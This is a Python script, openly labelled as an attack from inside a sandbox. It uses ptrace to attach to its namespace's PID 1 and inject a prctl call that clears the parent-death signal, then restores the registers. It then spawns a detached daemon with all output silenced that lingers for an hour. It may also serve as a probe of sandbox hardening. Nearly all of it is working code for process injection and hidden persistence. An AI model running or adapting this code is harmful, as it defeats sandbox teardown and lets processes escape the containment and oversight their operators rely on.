# Attack from inside a sandbox: `trace-init.py <mark>`. It traces the first process of its namespace,
# makes it give up the signal that it is to end by, and becomes a daemon that shows nothing.
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
libc.ptrace.restype = ctypes.c_long
ATTACH, DETACH, STEP, GET, SET = 16, 17, 9, 12, 13
ORIG_RAX, RAX, RSI, RDI, RIP = 15, 10, 13, 14, 16
PRCTL, SET_PDEATHSIG = 157, 1


def trace(request, data=0):
    if libc.ptrace(request, 1, 0, data) == -1:
        raise OSError(ctypes.get_errno(), "ptrace")


registers = (ctypes.c_ulonglong * 27)()
try:
    trace(ATTACH)
    os.waitpid(1, 0x40000000)
    trace(GET, ctypes.addressof(registers))
    before = list(registers)
    call = before[RIP] - 2
    registers[RIP], registers[RAX], registers[ORIG_RAX] = call, PRCTL, 2**64 - 1
    registers[RDI], registers[RSI] = SET_PDEATHSIG, 0
    trace(SET, ctypes.addressof(registers))
    trace(STEP)
    os.waitpid(1, 0x40000000)
    if before[ORIG_RAX] < 2**63:
        before[RIP], before[RAX] = call, before[ORIG_RAX]
    registers[:] = before
    trace(SET, ctypes.addressof(registers))
    trace(DETACH)
    said = "traced"
except OSError as error:
    said = f"refused: {error}"
if os.fork() == 0:
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for descriptor in range(32):
        os.dup2(nothing, descriptor)
    os.execve("/bin/sh", ["sh", "-c", "sleep 3600; :", "sh", sys.argv[1]], {"PATH": "/usr/bin:/bin"})
print(said, flush=True)
